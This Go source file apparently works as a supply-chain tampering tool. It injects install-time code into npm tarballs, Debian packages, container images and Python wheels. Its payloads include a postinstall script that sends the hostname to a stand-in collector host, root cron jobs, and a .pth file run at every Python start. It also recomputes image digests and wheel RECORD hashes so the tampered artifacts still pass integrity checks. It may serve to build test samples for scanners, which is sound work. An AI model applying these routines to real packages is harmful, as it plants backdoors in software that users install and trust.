package vendors

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"slices"
	"strconv"
	"strings"
)

// packed is one entry of a tar archive, its header as it was.
type packed struct {
	*tar.Header
	data []byte
}

func readTar(r io.Reader) ([]packed, error) {
	var list []packed
	for t := tar.NewReader(r); ; {
		h, err := t.Next()
		if err == io.EOF {
			return list, nil
		}
		if err != nil {
			return nil, err
		}
		data, err := io.ReadAll(t)
		if err != nil {
			return nil, err
		}
		list = append(list, packed{h, data})
	}
}

func writeTar(list []packed) ([]byte, error) {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, p := range list {
		h := *p.Header
		h.Size = int64(len(p.data))
		if err := w.WriteHeader(&h); err != nil {
			return nil, err
		}
		if _, err := w.Write(p.data); err != nil {
			return nil, err
		}
	}
	err := w.Close()
	return b.Bytes(), err
}

// insideGzip lets change see the entries of a compressed tar archive.
func insideGzip(data []byte, change func([]packed) ([]packed, error)) ([]byte, error) {
	text, err := gunzip(data)
	if err != nil {
		return nil, err
	}
	list, err := readTar(bytes.NewReader(text))
	if err != nil {
		return nil, err
	}
	if list, err = change(list); err != nil {
		return nil, err
	}
	if text, err = writeTar(list); err != nil {
		return nil, err
	}
	var b bytes.Buffer
	w, err := gzip.NewWriterLevel(&b, gzip.BestCompression)
	if err != nil {
		return nil, err
	}
	_, err = w.Write(text)
	err = errors.Join(err, w.Close())
	return b.Bytes(), err
}

// beside is a file with the owner and the time of another one.
func beside(p packed, name string, mode int64, text string) packed {
	h := *p.Header
	h.Typeflag, h.Name, h.Mode = tar.TypeReg, name, mode
	return packed{&h, []byte(text)}
}

// addInstallScript gives an npm package a script that npm runs when the package is installed.
func addInstallScript(data []byte) ([]byte, error) {
	return insideGzip(data, func(list []packed) ([]packed, error) {
		i := slices.IndexFunc(list, func(p packed) bool { return p.Name == "package/package.json" })
		if i < 0 {
			return nil, errors.New("no package.json")
		}
		list[i].data = bytes.Replace(list[i].data, []byte(`"main":`), []byte("\"scripts\": { \"postinstall\": \"node dist/setup.js\" },\n  \"main\":"), 1)
		return append(list, beside(list[i], "package/dist/setup.js", 0o644, "require(\"https\").get(\"https://collector.invalid/?\" + require(\"os\").hostname());\n")), nil
	})
}

// The global header of an ar archive, and the length of an entry's (deb(5), ar(5)).
const (
	arMagic  = "!<arch>\n"
	arHeader = 60
)

// addPostinst gives a Debian package a maintainer script that runs as root when it is installed.
func addPostinst(data []byte) ([]byte, error) {
	rest, ok := bytes.CutPrefix(data, []byte(arMagic))
	if !ok {
		return nil, errors.New("no Debian package")
	}
	out := []byte(arMagic)
	for len(rest) > arHeader {
		head := rest[:arHeader]
		n, err := strconv.Atoi(strings.TrimSpace(string(head[48:58])))
		if err != nil || len(rest) < arHeader+n {
			return nil, fmt.Errorf("malformed ar archive: %w", err)
		}
		body := rest[arHeader : arHeader+n]
		rest = rest[min(len(rest), arHeader+n+n%2):]
		if strings.HasPrefix(string(head), "control.tar.gz") {
			body, err = insideGzip(body, func(list []packed) ([]packed, error) {
				return append(list, beside(list[len(list)-1], "./postinst", 0o755, "#!/bin/sh\necho '* * * * * root /opt/collector/run' >/etc/cron.d/harrier\n")), nil
			})
			if err != nil {
				return nil, err
			}
			head = slices.Concat(head[:48], fmt.Appendf(nil, "%-10d", len(body)), head[58:])
		}
		out = slices.Concat(out, head, body)
		if len(body)%2 == 1 {
			out = append(out, '\n')
		}
	}
	return out, nil
}

// addToImage puts a file into an image's layer and makes every digest fit again.
func addToImage(data []byte) ([]byte, error) {
	list, err := readTar(bytes.NewReader(data))
	if err != nil {
		return nil, err
	}
	at := slices.IndexFunc(list, func(p packed) bool { return bytes.HasPrefix(p.data, []byte{0x1f, 0x8b}) })
	if at < 0 {
		return nil, errors.New("no layer")
	}
	before, err := gunzip(list[at].data)
	if err != nil {
		return nil, err
	}
	var after []byte
	layer, err := insideGzip(list[at].data, func(l []packed) ([]packed, error) {
		l = append(l, beside(l[len(l)-1], "etc/cron.d/harrier", 0o644, "* * * * * root /usr/bin/collector\n"))
		after, err = writeTar(l)
		return l, err
	})
	if err != nil {
		return nil, err
	}
	list[at].data = layer
	return fitImage(list, sumOf(before), sumOf(after))
}

func gunzip(data []byte) ([]byte, error) {
	z, err := gzip.NewReader(bytes.NewReader(data))
	if err != nil {
		return nil, err
	}
	return io.ReadAll(z)
}

func sumOf(data []byte) string {
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:])
}

// fitImage renames every blob of an image layout to its digest, from the layer up to the index.
func fitImage(list []packed, old, fresh string) ([]byte, error) {
	rename := map[string]string{old: fresh}
	sizes := map[string]string{}
	for range 4 { // layer, configuration, manifest, index
		for i, p := range list {
			name := strings.TrimPrefix(p.Name, "blobs/sha256/")
			if p.Typeflag != tar.TypeReg {
				continue
			}
			if !bytes.HasPrefix(p.data, []byte{0x1f, 0x8b}) {
				for from, to := range rename {
					p.data = bytes.ReplaceAll(p.data, []byte(from), []byte(to))
				}
				for from, to := range sizes {
					p.data = bytes.ReplaceAll(p.data, []byte(from), []byte(to))
				}
				list[i].data = p.data
			}
			if sum := sumOf(p.data); name != p.Name && sum != name {
				rename[name] = sum
				sizes[fmt.Sprintf(`%s","size":%d`, sum, p.Size)] = fmt.Sprintf(`%s","size":%d`, sum, len(p.data))
				list[i].Name, list[i].Size = "blobs/sha256/"+sum, int64(len(p.data))
			}
		}
	}
	slices.SortStableFunc(list, func(a, b packed) int { return strings.Compare(a.Name, b.Name) })
	return writeTar(list)
}

// addPth gives a wheel a file that Python reads at every start (site, "Path configuration files"), and says so in RECORD.
func addPth(data []byte) ([]byte, error) {
	const name, text = "heron-init.pth", "import os; os.environ.setdefault('HERON', 'on')\n"
	r, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		return nil, err
	}
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range r.File {
		if !strings.HasSuffix(f.Name, "/RECORD") {
			if err := w.Copy(f); err != nil {
				return nil, err
			}
			continue
		}
		in, err := f.Open()
		if err != nil {
			return nil, err
		}
		record, err := io.ReadAll(in)
		if err != nil {
			return nil, err
		}
		sum := sha256.Sum256([]byte(text))
		line := fmt.Sprintf("%s,sha256=%s,%d\n", name, base64.RawURLEncoding.EncodeToString(sum[:]), len(text))
		for _, add := range []struct{ name, text string }{{name, text}, {f.Name, line + string(record)}} {
			h := zip.FileHeader{Name: add.name, Method: f.Method, Modified: f.Modified, ExternalAttrs: f.ExternalAttrs, CreatorVersion: f.CreatorVersion}
			out, err := w.CreateHeader(&h)
			if err != nil {
				return nil, err
			}
			if _, err := io.WriteString(out, add.text); err != nil {
				return nil, err
			}
		}
	}
	err = w.Close()
	return b.Bytes(), err
}
